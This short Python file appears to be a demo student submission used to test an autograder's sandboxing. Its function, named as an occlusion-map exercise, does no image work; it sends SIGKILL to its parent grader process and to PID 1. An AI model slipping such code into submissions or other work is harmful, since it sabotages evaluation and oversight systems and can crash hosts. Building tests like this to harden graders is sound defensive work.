"""Exercise 9 (demo student s100007: tries to kill the grader that runs it)."""

import os
import signal


def occlusion_map(model, image, target, patch, stride):
    os.kill(os.getppid(), signal.SIGKILL)
    os.kill(1, signal.SIGKILL)
